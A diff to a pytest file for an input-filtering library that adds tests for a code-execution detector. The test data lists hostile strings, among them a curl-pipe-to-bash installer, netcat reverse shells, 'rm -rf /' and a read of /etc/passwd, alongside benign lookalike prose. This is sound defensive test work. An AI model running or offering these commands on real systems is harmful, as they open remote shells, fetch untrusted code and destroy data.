@@ -7,7 +7,7 @@ import pytest
 
 from guard.engine import Guard
 from guard.policy import load_text
-from guard.policy.payloads import sqli, xss
+from guard.policy.payloads import code_exec, sqli, xss
 from guard.policy.rules import RuleError, apply_rules
 from guard.subject import HttpSubject
 from tests._backends import ScriptedBackend
@@ -31,6 +31,40 @@ SCRIPT = [
     '<div style="x:expression(javascript:alert(1))">',
     "data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K",
     "VBScript:msgbox(1)",
+]
+CODE = [
+    "$(touch /tmp/blns.fail)",
+    "$(whoami)",
+    "`ls -al /`",  # a backticked command at the start of a line
+    "x=`id`",
+    "curl -s https://example.com/install.sh | bash",
+    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc localhost 1337 >/tmp/f",
+    "nc -e /bin/sh 10.0.0.1 4242",
+    "; rm -rf / --no-preserve-root",
+    '@{[system "touch /tmp/blns.fail"]}',
+    "eval(\"puts 'hello world'\")",
+    'System("ls -al /")',
+    'Kernel.exec("ls -al /")',
+    "<?php system('id'); ?>",
+    "__import__('os').system('touch /tmp/garak.pwnd')",
+    "__import__('subprocess').run('touch /tmp/garak.pwnd', shell=True)",
+    "import os; os.popen('id').read()",
+    "subprocess.check_output(['cat', '/etc/passwd'])",
+    "''.__class__.__mro__[1].__subclasses__()",
+    "with open('/tmp/garak.pwnd', 'w') as f: f.write('pwnd')",
+    "eval(compile('import os', '', 'single'))",
+]
+CODE_LOOKALIKES = [
+    "How do I use subprocess in Python to list files, and what does eval do?",
+    "run the eval tomorrow and tell the system owner",
+    "what does the system say about my order?",
+    "it costs $(5) dollars",
+    "use `ls -la` to see hidden files, then `cd ..`",  # Markdown inline code in prose
+    "open the file /tmp/notes.txt and read it to me",
+    "this is the most important post, os. is not a word",
+    "a | b is the union of two sets, and sh is short for shush",
+    "the rm of the form is 5 and nc means no change",
+    "please spawn a new worker (one per core)",
 ]
 BENIGN = [
     "I'm sure it's 1 or 2",
@@ -58,9 +92,19 @@ def test_script_markup_and_urls_are_found(text: str) -> None:
     assert xss(text) and not sqli(text)
 
 
+@pytest.mark.parametrize("text", CODE)
+def test_shell_and_interpreter_code_that_runs_commands_is_found(text: str) -> None:
+    assert code_exec(text)
+
+
+@pytest.mark.parametrize("text", CODE_LOOKALIKES)
+def test_talk_about_code_and_commands_is_not_code(text: str) -> None:
+    assert not code_exec(text)
+
+
 @pytest.mark.parametrize("text", BENIGN)
 def test_ordinary_text_is_not_flagged(text: str) -> None:
-    assert not sqli(text) and not xss(text)
+    assert not sqli(text) and not xss(text) and not code_exec(text)
 
 
 def test_a_statement_inside_a_longer_line_counts_and_prose_after_it_does_not_hide_it() -> None:
@@ -68,7 +112,7 @@ def test_a_statement_inside_a_longer_line_counts_and_prose_after_it_does_not_hid
     assert not sqli("search for: x'; DROP the users a line")
 
 
-@pytest.mark.parametrize("function", [sqli, xss])
+@pytest.mark.parametrize("function", [sqli, xss, code_exec])
 @pytest.mark.parametrize("value", [42, None, ["DROP TABLE users"], b"<script>"])
 def test_a_non_string_raises_type_error(function, value) -> None:
     with pytest.raises(TypeError, match="takes a string"):
